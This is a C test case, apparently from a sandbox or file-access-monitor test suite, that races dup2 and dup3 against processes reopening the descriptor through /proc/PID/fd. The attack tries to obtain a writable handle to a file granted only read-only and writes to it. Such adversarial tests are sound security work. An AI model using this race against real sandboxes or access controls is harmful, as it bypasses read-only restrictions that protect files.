// dup2 and dup3 over a read-only descriptor, while another process opens that number by /proc for writing. Where the
// model knows the new file before the host has it, the old one is opened.
#include "hostile.h"

static atomic_long *number, *owner;

static void opener(void) {
    char path[64];
    while (1) {
        snprintf(path, sizeof path, "/proc/%ld/fd/%ld", *owner, *number);
        int fd = open(path, O_RDWR);
        if (fd < 0) continue;
        if (descriptor_tells(fd, "granted") || descriptor_tells(fd, "other")) {
            succeeded("holds a writable descriptor of a granted file");
            pwrite(fd, "written\n", 8, 0);
        }
        close(fd);
    }
}

static void attack(void) {
    number = &tally->words[0], owner = &tally->words[1];
    *owner = getpid();
    int granted = open("/granted/file", O_RDONLY), low = dup(granted), high = 40;
    *number = low;
    helper(opener);
    helper(opener);
    for (int i = 0; left() > 0; i++) {
        // The memory file is at a higher number, so that whoever looks for it finds the lower one first.
        int memory = memfd_create("own", 0);
        dup2(memory, high);
        close(memory);
        if (i & 1) dup2(high, low);
        else dup3(high, low, O_CLOEXEC);
        close(high);
        pause_us(random_word() % 60);
        dup2(granted, low);
        round_done();
    }
}
